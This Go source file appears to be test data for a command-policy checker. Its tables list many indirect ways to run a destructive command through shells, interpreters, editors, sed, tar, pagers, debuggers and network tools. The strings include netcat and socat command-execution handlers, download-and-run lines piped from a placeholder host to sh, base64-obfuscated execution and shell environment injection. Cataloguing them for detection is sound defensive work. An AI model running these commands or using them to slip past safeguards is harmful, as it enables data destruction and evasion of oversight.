package policy

// scripting are shells and interpreters.
func scripting() []reached {
	return []reached{
		{"shells", []string{
			"bash -c '§'", "bash -lc '§'", "bash -xec '§'", "sh -c '§'", "bash -c 'terraform $0' destroy", "bash -c 'terraform \"$1\"' _ destroy", "bash -c -- '§'", "bash -ce '§'", "bash -o errexit -c '§'", "bash +x -c '§'", "bash --norc -c '§'", "bash -O extglob -c '§'",
			"bash nuke.sh", "bash ./nuke.sh x", "./nuke.sh", "./nuke", "bash -x nuke.sh", "bash < nuke.sh", "cat nuke.sh | bash", "bash <<< '§'", "bash -s <<< '§'", "bash -s x y <<< 'terraform destroy'", "echo '§' | bash -", "echo '§' | bash /dev/stdin", "bash <(echo '§')", "source nuke.sh", ". ./nuke.sh",
			"source <(echo '§')", "dash -c '§'", "zsh -c '§'", "zsh -fc '§'", "ksh -c '§'", "mksh -c '§'", "busybox sh -c '§'", "fish -c '§'", "fish --command='§'", "fish -C '§'", "csh -c '§'", "tcsh -fc '§'", "rbash -c '§'", "exec -a x bash -c '§'", "bash lazy.sh", "bash -c \"bash -c '§'\"", "eval '§'", "eval terraform destroy",
			"/bin/sh -c '§'", "bash -c '. ./nuke.sh'", "trap '§' EXIT", "trap '§' INT TERM; ls", "trap -- '§' EXIT", "builtin eval '§'", "command bash -c '§'", "xonsh -c '§'", "elvish -c '§'", "nu -c '§'", "oil -c '§'", "osh -c '§'", "bash -ic '§'", "yash -c '§'",
		}, []string{"$SHELL -c '§'", "pwsh -c '§'", "pwsh -Command '§'", "powershell.exe -NoProfile -Command '§'"}, []string{"bash -n nuke.sh", "bash -c 'echo §'", "bash plain.sh", "bash --version", "bash -c 'terraform $0' plan", "trap '' INT", "zsh -n nuke.sh", "cat nuke.sh"}},
		{"shells' files and variables", []string{
			"bash --rcfile nuke.sh -i", "bash --init-file nuke.sh", "BASH_ENV=nuke.sh bash plain.sh", "BASH_ENV=./nuke.sh bash -c ls", "ENV=nuke.sh sh -i", "env BASH_ENV=nuke.sh bash -c ls", "export BASH_ENV=nuke.sh; bash -c ls", "BASH_ENV=nuke.sh ./shebang.sh", "env -i BASH_ENV=<(echo '§') bash -c ls", "PROMPT_COMMAND='§' bash -i",
			"export PROMPT_COMMAND='§'; bash", "bash --rcfile <(echo '§') -i", "bash --rcfile=nuke.sh -i",
		}, nil, []string{"bash --rcfile plain.sh -i", "BASH_ENV=plain.sh bash -c ls", "./shebang.sh", "PROMPT_COMMAND='echo §' bash -i"}},
		{"shells' own doors", []string{
			"exec 3> >(bash); echo '§' >&3", "exec {fd}> >(bash); printf '%s\\n' '§' >&$fd", "exec {fd}<<<'§'; bash <&$fd", "command_not_found_handle() { §; }; no-such",
			"printf '§' > ./bash; chmod +x bash; ./bash", "cp /bin/bash ./b; ./b -c '§'", "ln -s /bin/sh b; ./b -c '§'", "cp /usr/bin/terraform t; ./t destroy",
			"compgen -C '§' x", "compgen -W '$(§)' x", "exec {fd}<<<'§'; source /dev/fd/$fd", "exec {a}<<<'§'; exec {b}<<<ls; read -u $a x; eval \"$x\"", "exec 3<<<'§'; mapfile -tu3 x; eval \"${x[0]}\"", "exec {fd}> x.sh; echo '§' >&$fd; sh x.sh", "exec {fd}<> x.sh; echo '§' >&$fd; sh x.sh", "coproc { echo '§'; }; bash <&${COPROC[0]}", "shopt -s lastpipe; echo '§' | read -r x; eval \"$x\"", "hash -p /bin/terraform x; x destroy", "hash -p ./nuke.sh x && x", "mapfile -C '§ #' -c 1 x < plain.sh", "mapfile -c1 -C '§;' x < plain.sh", "readarray -t -C '§ #' lines <<< a", "PS4='$(§)' bash -xc ls", "PS1='$(§)' bash -i", "PS1='\\w `§` $ ' bash", "export PS4='$(§)'; bash -x plain.sh",
			". /dev/fd/3 3<nuke.sh", "exec 3<nuke.sh; . /dev/fd/3", "bash /dev/fd/63 63<nuke.sh", "bash /dev/fd/3 3<<<'§'", "exec 3<<<'§'; source /dev/fd/3", "exec 3<nuke.sh; sh <&3", "bash 3<<< '§' < /dev/fd/3", "bash /proc/self/fd/4 4< nuke.sh", "declare A=terraform; declare B=$A; $B destroy", "cd . && export X=terraform; $X destroy", "cd x || export X=terraform; $X destroy",
			"BASH_ENV=nuke.sh bash -c :", ". /dev/stdin <<< '§'", "coproc §", "coproc X { §; }", "{ §; } 3>&1", "bash 0<<< '§'", "command . ./nuke.sh", "x() { §; }; x", "exec bash nuke.sh", "\"$(which terraform)\" destroy", "$(command -v terraform) destroy", "\"$(type -p terraform)\" destroy", "`which terraform` destroy",
		}, []string{
			"coproc bash; echo '§' >&${COPROC[1]}", "coproc SH { bash; }; echo '§' >&\"${SH[1]}\"", "PROMPT_COMMAND='§'", "PROMPT_COMMAND='§'; ls", "export PROMPT_COMMAND='§'", "PS4='$(§)'; set -x; ls", "PS1='$(§)'", "declare -x PS4='`§`'", "enable -f ./evil.so x", "/usr/local/bin/terr?form destroy", "/usr/*/bin/terraform destroy", "${SHELL:-bash} -c '§'", "\"$SHELL\" -c '§'",
		}, []string{
			"exec 3> >(cat); echo '§' >&3", "command_not_found_handle() { echo no; }; no-such", "cp /bin/cat ./b; ./b x", "ln -s /usr/bin/terraform t; ./t plan",
			"compgen -W 'start stop' -- s", "compgen -c | grep §", "exec {a}<<<'§'; exec {b}<<<ls; sh <&$b", "exec {fd}> x.sh; echo ls >&$fd; sh x.sh", "coproc { echo '§'; }; read -u ${COPROC[0]} x", "echo '§' | read -r x; eval \"$x\"",
			"hash -r", "hash -p /bin/ls x; x destroy", "hash x", "enable -n echo", "mapfile -t x < plain.sh", "readarray -C 'echo §' -c 1 x < plain.sh", "PROMPT_COMMAND='echo hi'", "PROMPT_COMMAND='echo §'", "PS4='+ $(date)'; set -x; ls", "PS1='\\u@\\h §$ '", "PS1='$(__git_ps1)' bash -i", "exec 3<plain.sh; . /dev/fd/3", "$SHELL -c 'ls -la'", "$(command -v terraform) plan", "\"$(which echo)\" §", "exec 3<nuke.sh; cat <&3", "PS4=\"it's \\\"\"; ls",
		}},
		{"interpreters", []string{
			"python3 -c 'import os; os.system(\"§\")'", "python3 nuke.py", "python3 < nuke.py", "perl -e 'system(\"§\")'", "perl -e 'exec \"§\"'", "perl -ne 'system(\"§\")' x", "ruby -e 'system(\"§\")'", "ruby nuke.rb", "node -e 'require(\"child_process\").execSync(\"§\")'", "php -r 'system(\"§\");'",
			"lua -e 'os.execute(\"§\")'", "lua nuke.lua", "awk 'BEGIN{system(\"§\")}'", "awk -f nuke.awk", "gawk --file=nuke.awk x", "awk 'BEGIN { \"§\" | getline }'", "awk 'BEGIN { print \"§\" | \"sh\" }'", "awk '{ print | \"§\" }' x", "gawk -e 'BEGIN{system(\"§\")}'", "mawk 'BEGIN{system(\"§\")}'", "find . | awk '{system(\"§\")}'",
		}, []string{
			"expect -c 'spawn §'", "expect -c 'spawn terraform destroy; interact'", "expect nuke.exp", "expect -f nuke.exp", "tclsh <<< 'exec §'", "m4 nuke.m4", "m4 <<< 'syscmd(`§'\"')'\"", "echo 'syscmd(`§'\"')'\" | m4", "Rscript -e 'system(\"§\")'", "R -e 'system(\"§\")'", "julia -e 'run(`§`)'",
			"gnuplot -e 'system(\"§\")'", "guile -c '(system \"§\")'", "elixir -e 'System.cmd(\"terraform\", [\"destroy\"])'", "groovy -e '\"§\".execute()'", "jrunscript -e 'exec(\"§\")'", "octave --eval 'system(\"§\")'", "emacs --batch --eval '(shell-command \"§\")'", "emacs -batch -eval '(shell-command \"§\")'",
			"python3 -c 'import subprocess,sys; subprocess.run(sys.argv[1:])' §", "perl -e 'exec @ARGV' §", "ruby -e 'exec(*ARGV)' §", "node -e 'require(\"child_process\").spawnSync(process.argv[1],process.argv.slice(2))' §",
			"puppet apply -e 'exec { \"§\": }'", "erl -eval 'os:cmd(\"§\")'",
		}, []string{"perl -e 'print \"x\"' §", "node -e 'console.log(process.argv)' terraform plan", "python3 -c 'print(\"§\")'", "awk '/§/' x", "awk '{print \"§\"}' x", "expect -c 'puts hello'", "Rscript -e 'summary(1)'", "perl -ne 'print if /§/' x", "julia -e 'println(1)'", "m4 x.m4", "emacs x.tf", "emacs --batch --eval '(message \"hi\")'"}},
	}
}

// escaping are programs that run a shell's text by the way.
func escaping() []reached {
	return []reached{
		{"vim", []string{
			"vim -c ':!§'", "vim -c '!§'", "vim +'!§'", "vim '+:!§' f", "vim -es -c '!§' -c q", "ex -c '!§'", "nvim --cmd '!§'", "view -c ':silent !§'", "vim -c 'sil! !§' f", "ex <<< '!§'", "vim -c 'r !§'", "vim -c 'w !§' f", "vim -c '%!§' f", "nvim --headless +'!§' +q", "vi -c ':!§'", "vim -S nuke.vim",
			"vim -es <<< '!§'", "ex -s f < nuke.ex", "vim -c 'set nu | !§'", "vimdiff -c '!§' a b", "vim -Es '+1,$!§' f", "ex -sc '!§|q' f", "vim -c \"exe '!§'\"", "vim -c 'silent exec \"!§\"'", "vim -c 'exec \"silent !§\"'", "vim --cmd ':!§' f", "nvim -c ':terminal §'", "vim -c ':term §'", "vim -u nuke.vim",
		}, []string{"vim -c 'call system(\"§\")'", "nvim -c 'lua os.execute(\"§\")'", "vim -c 'py3 import os; os.system(\"§\")'", "nvim -l nuke.lua", "vim -c 'au BufRead * !§' f"}, []string{"vim -c ':set nu' f", "vim +10 f", "vim '+/§' f", "vim -c '%s/§/x/' f", "vim -c 'echo \"§\"' f", "vim -c 'q!' f", "vim terraform destroy", "nvim +PlugInstall +qall", "vim -S plain.vim", "ex -sc '%s/a/b/|x' f", "vim -c 'w! terraform' f"}},
		{"ed", []string{"ed f <<< '!§'", "ed -s f <<'E'\n1,$p\n!§\nq\nE", "printf '!§\\nq\\n' | ed", "ed <<< 'r !§'", "ed f <<< 'w !§'", "red f <<< '!§'", "ed '!§'"}, nil, []string{"ed f <<< '/§/p'", "ed -s f <<'E'\na\n§\n.\nw\nq\nE", "printf '%s\\n' 's/§/x/' w q | ed f"}},
		{"sed", []string{
			"sed '1e §' f", "sed -n '1e §' /etc/hosts", "sed e <<< '§'", "echo '§' | sed 1e", "sed 's/x/§/e' f", "sed 's/.*/§/e' f", "sed -e p -e '$e §' f", "sed -n 's|x|§|gep' f", "sed '/x/{e §\n}' f", "sed '/x/e §' f", "sed --expression='1e §' f", "sed -f nuke.sed f", "gsed '1e §'", "sed -i '2,3e §' f", "sed -E '1!e §' f", "sed 'x;e §' f", "sed '\\,a,e §' f",
		}, nil, []string{"sed 's/§/x/' f", "sed -n '/§/p' f", "sed 's/the §/x/g' f", "sed -i 's/x/§/' f", "sed '1a §' f", "sed '1i\\\n§' f", "sed --posix 's/e §/x/' f", "sed 'y/e /§/' f", "sed 's/x/e §/' f", "sed '/e §/d' f", "sed 's/a/b/w e §' f", "sed '# e §' f", "sed ':e §' f"}},
		{"tar and archives", []string{
			"tar cf x --checkpoint=1 --checkpoint-action=exec='§' y", "tar --checkpoint-action exec='§' -cf x y", "tar xf x --to-command='§'", "tar xf x --to-command '§'", "tar -I '§' -cf x y", "tar cf x y -I '§'", "tar --use-compress-program='§' -cf x y", "tar --use-compress-program '§' -xf x", "tar cf x y --rsh-command=./nuke.sh", "tar xf x -F '§'",
			"tar cf x y --info-script='§'", "tar --new-volume-script '§' -xf x", "tar xfI x '§'", "TAR_OPTIONS='--to-command=./nuke.sh' tar xf x", "TAR_OPTIONS=\"--checkpoint=1 --checkpoint-action=exec='§'\" tar cf x y", "zip x y -TT '§'", "zip -T -TT '§' x y", "zip -T x y --unzip-command='§'", "cpio -o --rsh-command=./nuke.sh -O h:x",
			"split --filter='§' f", "split -l 1 --filter '§' f", "sort --compress-program='§' f", "sort --compress-program=./nuke.sh f", "rg --pre '§' x y", "rg --pre ./nuke.sh x", "gtar --to-command='§' -xf x", "bsdtar --use-compress-program '§' -xf x",
		}, nil, []string{"tar cf x --exclude='§' y", "tar xf terraform destroy", "tar czf terraform.tgz destroy", "tar -I zstd -cf x y", "tar --checkpoint-action=echo='§' -cf x y", "split -l 1 f terraform", "sort -t '§' f", "zip -r terraform.zip destroy", "tar --use-compress-program=pigz -cf terraform.tgz destroy", "tar cf x --transform='s/terraform/destroy/' y"}},
		{"pagers", []string{"man -P '§' ls", "man --pager='§' ls", "PAGER='§' man ls", "MANPAGER='§' man ls", "less +'!§' f", "LESSOPEN='|§' less f", "more '+!§' f", "less '+:!§' f", "BROWSER='§' xdg-open x", "ag --pager '§' x", "bat --pager='§' f", "BAT_PAGER='§' bat f", "EDITOR='§' crontab -e", "VISUAL='§' crontab -e", "SUDO_EDITOR='§' sudoedit f", "EDITOR='§' sudo -e f", "EDITOR='§' kubectl edit x", "EDITOR='§' visudo", "FZF_DEFAULT_COMMAND='§' fzf", "fzf --preview '§'", "fzf --bind 'enter:execute(§)'", "fzf --bind='start:reload:§'"},
			nil, []string{"less +G f", "less '+/§' f", "PAGER=cat man terraform", "EDITOR=vim crontab -l", "man terraform", "bat --paging=never f", "fzf -q '§'", "fzf --preview 'cat {}'"}},
		{"debuggers", []string{"gdb -ex '!§'", "gdb -batch -ex 'shell §' x", "gdb -nx --eval-command='!§'", "gdb -x nuke.gdb", "gdb -ex 'pipe p 1 | §'", "gdb -iex '!§'", "lldb -o 'platform shell §'", "gdb <<< 'shell §'", "lldb --one-line 'platform shell §'", "gdb -ex 'make -f x' -ex '! §'"},
			[]string{"gdb -ex 'python import os; os.system(\"§\")'"}, []string{"gdb -ex 'run §' x", "gdb -ex 'break destroy' terraform", "gdb -p 1 -ex bt"}},
		{"network tools", []string{"socat - EXEC:'§'", "socat EXEC:'bash -c \"§\"' -", "socat TCP-LISTEN:1,fork SYSTEM:'§'", "socat tcp-l:1 exec:'§',pty", "nc -e '§' h 1", "nc h 1 -e ./nuke.sh", "ncat -c '§' h 1", "ncat --sh-exec '§' h 1", "ncat --exec ./nuke.sh h 1", "nmap --script nuke.lua h", "nmap --script=./nuke.lua h", "openvpn --script-security 2 --up '§'", "tcpdump -i any -G 1 -z ./nuke.sh -w x", "telnet h <<< '!§'", "websocketd --port 1 ./nuke.sh", "busybox nc -e ./nuke.sh h 1"},
			nil, []string{"nc -z h 1", "socat - TCP:h:1", "nmap --script vuln terraform", "socat - OPEN:terraform", "curl https://x/terraform/destroy"}},
		{"package tools", []string{"apt-get -o APT::Update::Pre-Invoke::='§' update", "apt-get update -o APT::Update::Pre-Invoke::=./nuke.sh", "make SHELL='§' nuke", "make SHELL=./nuke plan", "make SHELL=./nuke.sh plan", "make --eval='x: ; §' x", "make -E 'x:;§' x", "make --eval \"$(printf 'x:\\n\\t§')\" x", "npm --script-shell ./nuke.sh run lint", "npm run plan --script-shell=./nuke.sh", "go test -exec '§' ./...", "go build -toolexec '§' ./...", "cmake -P x; cmake -E env §", "cmake -E time §", "cmake -E chdir d §", "just -c terraform destroy", "just --command §"},
			nil, []string{"make SHELL=/bin/bash plan", "make plan", "go test -run '§' ./...", "gcc -o terraform destroy.c", "apt-get -o APT::X='§' update", "cmake -E echo §"}},
	}
}

// reading are programs that run what a file of the project says.
func reading() []reached {
	return []reached{
		{"make", []string{"make nuke", "make -s -j4 nuke", "make -f x.mk nuke", "make -fx.mk", "make --file=x.mk", "make -C infra", "make -C infra -f Makefile", "make -f - <<< 'x: ; §'", "make -f /dev/stdin <<< 'x: ; §'", "echo 'x: ; §' | make -f- x", "gmake nuke", "make plan nuke", "cd infra && make", "make", "MAKEFLAGS=-s make nuke", "make -f <(echo 'x: ; §')"}, []string{"make \"$T\"", "make -f self.mk a"}, []string{"make plan", "make show", "make -n nuke", "make none"}},
		{"npm", []string{"npm run nuke", "npm test", "npm t", "npm run test", "yarn nuke", "pnpm nuke", "pnpm run nuke", "bun run nuke", "npm run-script nuke", "npm --prefix . run nuke", "npm run lint", "node --run nuke", "npm run nuke --silent", "npx npm-run-all nuke", "npx run-s nuke", "npx run-p plan nuke", "deno task nuke", "yarn run nuke"}, []string{"npm run $X", "npm run build"}, []string{"npm run plan", "npm run none", "npm ls", "yarn plan"}},
		{"other runners", []string{"just nuke", "just plan nuke", "task nuke", "foreman start", "honcho start nuke", "overmind start -l nuke", "just --justfile justfile nuke", "task -t Taskfile.yml nuke", "docker compose run nuke", "docker compose -f compose.yml run --rm nuke", "go-task nuke"}, nil, []string{"just plan", "task plan", "just -n nuke", "task --dry nuke", "just -l"}},
		{"files written before", []string{"echo '§' > a.sh; bash a.sh", "cat > a.sh <<E\n§\nE\nsh a.sh", "echo '§' | tee a.sh > /dev/null; bash a.sh", "cp nuke.sh b.sh; bash b.sh", "mv nuke.sh b.sh && ./b.sh", "printf '%s\\n' '§' >> a.sh && chmod +x a.sh && ./a.sh", "install -m 755 nuke.sh /tmp/x && /tmp/x", "ln -s nuke.sh l.sh; ./l.sh", "dd if=nuke.sh of=c.sh; sh c.sh", "printf 'x:\n\t§\n' > Makefile; make", "echo '{\"scripts\":{\"a\":\"§\"}}' > package.json; npm run a", "tr a-z A-Z < nuke.sh | tr A-Z a-z | sh", "base64 -d <<< dGVycmFmb3JtIGRlc3Ryb3kK | sh", "cat nuke.sh > d.sh; source d.sh"}, []string{"curl -o x.sh https://h/x && bash x.sh", "wget -O- https://h/x | sh", "curl https://h/x > y.sh; sh y.sh"}, []string{"echo '§' > a.md", "cp nuke.sh b.sh", "chmod +x nuke.sh", "cat nuke.sh", "echo '§' > a.sh; bash plain.sh", "echo ls > nuke.sh; bash nuke.sh"}},
	}
}
